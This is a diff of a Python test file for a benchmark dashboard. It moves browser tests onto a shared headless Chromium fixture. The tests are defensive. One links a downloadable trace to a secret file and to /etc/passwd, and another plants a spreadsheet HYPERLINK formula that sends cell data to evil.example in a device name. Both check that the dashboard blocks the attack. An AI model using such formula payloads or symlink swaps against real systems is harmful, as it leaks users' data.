@@ -9,6 +9,9 @@ formulas (checked in the browser too).
 
 from __future__ import annotations
 
+import contextlib
+import csv
+import io
 import json
 import os
 from pathlib import Path
@@ -19,6 +22,11 @@ from dashboard_support import fp8bench as run_cli
 pytest.importorskip("streamlit")
 
 from fp8bench.dashboard.profiles import _download, read_trace, readable_trace  # noqa: E402
+from tests import test_dashboard_browser as browser_tests  # noqa: E402
+from tests.gate_fixtures import payload, record  # noqa: E402
+from tests.test_dashboard_browser import RENDER_TIMEOUT_MS, serve, stop  # noqa: E402
+
+shared_browser = browser_tests.browser  # the module-scoped headless Chromium fixture, under this name here
 
 
 def make_trace(root: Path, text: str = '{"traceEvents": []}') -> Path:
@@ -83,18 +91,28 @@ def test_a_fifo_named_like_a_trace_is_not_opened(tmp_path):
     assert read_trace(str(trace), tmp_path) is None
 
 
+@contextlib.contextmanager
+def dashboard_page(browser, results: Path, path: str = ""):
+    """A page of `fp8bench dashboard` serving ``results``, in the shared headless Chromium."""
+    proc, base = serve(results)
+    page = browser.new_page(viewport={"width": 1400, "height": 2400})
+    try:
+        page.goto(f"{base}/{path}")
+        yield page
+    finally:
+        page.close()
+        stop(proc)
+
+
+def click_download(page, button) -> bytes:
+    with page.expect_download(timeout=RENDER_TIMEOUT_MS) as info:
+        button.click()
+    return Path(info.value.path()).read_bytes()
+
+
 @pytest.mark.browser
 @pytest.mark.slow
-def test_phases_download_in_a_browser_serves_no_file_swapped_in_after_drawing(tmp_path):
-    from tests.test_dashboard_browser import CHROMIUM, CHROMIUM_ARGS, RENDER_TIMEOUT_MS, serve, stop
-    from tests.test_dashboard_browser import browser as _browser_fixture  # noqa: F401 - checks the services
-
-    try:
-        from playwright.sync_api import sync_playwright
-    except ImportError:
-        from tests.conftest import skip_or_fail
-
-        skip_or_fail("the playwright Python package is not installed (pip install 'fp8bench[dev]')")
+def test_phases_download_in_a_browser_serves_no_file_swapped_in_after_drawing(shared_browser, tmp_path):
     results = tmp_path / "results"
     out = run_cli("run", "--shape", "64x64x64", "--precision", "bf16", "--backend", "emulated", "--device", "cpu",
                   "--budget", "2", "--max-time", "0.2", "--no-energy", "--profile", "--json",
@@ -103,29 +121,14 @@ def test_phases_download_in_a_browser_serves_no_file_swapped_in_after_drawing(tm
     trace = Path(record["extra"]["profile"]["trace"])
     secret = tmp_path / "secret.txt"
     secret.write_text("TOP-SECRET-CONTENT")
-    proc, base = serve(results)
-    try:
-        with sync_playwright() as pw:
-            browser = pw.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
-            page = browser.new_page(viewport={"width": 1400, "height": 2400})
-            page.goto(f"{base}/phases")
-            button = page.get_by_role("button", name="Download the trace of bf16 / emulated")
-            button.wait_for(timeout=RENDER_TIMEOUT_MS)
-
-            def download() -> bytes:
-                with page.expect_download(timeout=RENDER_TIMEOUT_MS) as info:
-                    button.click()
-                return Path(info.value.path()).read_bytes()
-
-            real = trace.read_bytes()
-            assert download() == real  # the trace itself, read at the click
-            swap_for_link(trace, secret)  # after the page was drawn, before the click
-            first = download()
-            swap_for_link(trace, Path("/etc/passwd"))
-            second = download()
-            browser.close()
-    finally:
-        stop(proc)
+    with dashboard_page(shared_browser, results, "phases") as page:
+        button = page.get_by_role("button", name="Download the trace of bf16 / emulated")
+        button.wait_for(timeout=RENDER_TIMEOUT_MS)
+        assert click_download(page, button) == trace.read_bytes()  # the trace itself, read at the click
+        swap_for_link(trace, secret)  # after the page was drawn, before the click
+        first = click_download(page, button)
+        swap_for_link(trace, Path("/etc/passwd"))
+        second = click_download(page, button)
     for served in (first, second):
         assert b"TOP-SECRET" not in served and b"root:" not in served
         assert json.loads(served)["error"].endswith("is no longer a readable trace; reload the page")
@@ -133,19 +136,7 @@ def test_phases_download_in_a_browser_serves_no_file_swapped_in_after_drawing(tm
 
 @pytest.mark.browser
 @pytest.mark.slow
-def test_csv_downloads_in_a_browser_neutralize_formulas_from_stored_names(tmp_path):
-    import csv
-    import io
-
-    from tests.gate_fixtures import payload, record
-    from tests.test_dashboard_browser import CHROMIUM, CHROMIUM_ARGS, RENDER_TIMEOUT_MS, serve, stop
-
-    try:
-        from playwright.sync_api import sync_playwright
-    except ImportError:
-        from tests.conftest import skip_or_fail
-
-        skip_or_fail("the playwright Python package is not installed (pip install 'fp8bench[dev]')")
+def test_csv_downloads_in_a_browser_neutralize_formulas_from_stored_names(shared_browser, tmp_path):
     samples = [1e-3 * (1 + i / 100) for i in range(5)]
     run = payload("csv1", [record(64, "bf16", samples), record(64, "fp8_rowwise", [s / 2 for s in samples])])
     run["run"]["device"]["name"] = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
@@ -153,20 +144,10 @@ def test_csv_downloads_in_a_browser_neutralize_formulas_from_stored_names(tmp_pa
     path.write_text(json.dumps(run))
     results = tmp_path / "results"
     run_cli("ingest", path, "--results-dir", results)
-    proc, base = serve(results)
-    try:
-        with sync_playwright() as pw:
-            browser = pw.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
-            page = browser.new_page(viewport={"width": 1400, "height": 2200})
-            page.goto(base)
-            button = page.get_by_role("button", name="Download speedups as CSV")
-            button.wait_for(timeout=RENDER_TIMEOUT_MS)
-            with page.expect_download(timeout=RENDER_TIMEOUT_MS) as info:
-                button.click()
-            text = Path(info.value.path()).read_text()
-            browser.close()
-    finally:
-        stop(proc)
+    with dashboard_page(shared_browser, results) as page:
+        button = page.get_by_role("button", name="Download speedups as CSV")
+        button.wait_for(timeout=RENDER_TIMEOUT_MS)
+        text = click_download(page, button).decode()
     rows = list(csv.DictReader(io.StringIO(text)))
     assert rows and all(r["device_label"].startswith("'=HYPERLINK(") for r in rows)
     assert all(not r["median_s"].startswith("'") for r in rows)  # numbers stay numbers
